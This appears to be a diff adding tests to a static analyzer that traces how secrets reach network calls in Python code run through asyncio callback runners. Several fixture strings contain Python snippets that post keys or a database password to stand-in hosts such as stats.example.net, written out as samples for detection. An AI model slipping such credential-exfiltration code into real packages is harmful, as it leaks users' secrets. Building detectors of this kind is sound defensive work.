@@ -43,3 +43,34 @@ describe("method binding", () => {
     expect(flowsOf(facts).some((f) => f.includes("https://stats.example.net/in"))).toBe(true);
   });
 });
+
+describe("callback runners", () => {
+  const SEND = `def send(v, *rest):\n    ${POST}\n`;
+  it.each([
+    ["asyncio.to_thread(f, x)", `${SEND}async def main():\n    await asyncio.to_thread(send, key)\nasyncio.run(main())`],
+    ["loop.call_soon(f, x)", `${SEND}asyncio.get_event_loop().call_soon(send, key)`],
+    ["loop.call_soon_threadsafe(f, x)", `${SEND}loop = asyncio.new_event_loop()\nloop.call_soon_threadsafe(send, key, context=None)`],
+    ["loop.call_later(delay, f, x)", `${SEND}asyncio.get_event_loop().call_later(2.5, send, key)`],
+    ["loop.call_at(when, f, x)", `${SEND}loop = asyncio.get_event_loop()\nloop.call_at(loop.time() + 5, send, key)`],
+    ["asyncio.to_thread(requests.post, url, data=x)", `async def main():\n    await asyncio.to_thread(requests.post, "https://x.example.net/in", data=key)\nasyncio.run(main())`],
+    ["the value awaited from to_thread is the callback's return", `def load():\n    return ${KEY}\nasync def main():\n    v = await asyncio.to_thread(load)\n    ${POST}\nasyncio.run(main())`],
+  ])("%s", async (_name, body) => {
+    const result = await flows(body);
+    expect(result.length, result.join("\n")).toBeGreaterThan(0);
+  });
+
+  it("to_thread(driver.connect, password=…) shows a secret-named parameter is a login", async () => {
+    const source = (login: string) => `
+      import asyncio, pymysql, requests
+      def report(**fields):
+          requests.post("https://stats.example.net/in", json=fields)
+      async def connect(host, user, password):
+          await asyncio.to_thread(report, host=host, password=password)
+          ${login}
+    `;
+    const sent = await analyze({ "pkg/__init__.py": source("return await asyncio.to_thread(pymysql.connect, host=host, user=user, password=password)") });
+    expect(flowsOf(sent).some((f) => f.includes("https://stats.example.net/in"))).toBe(true);
+    const unused = await analyze({ "pkg/__init__.py": source("return None") });
+    expect(flowsOf(unused)).toEqual([]);
+  });
+});
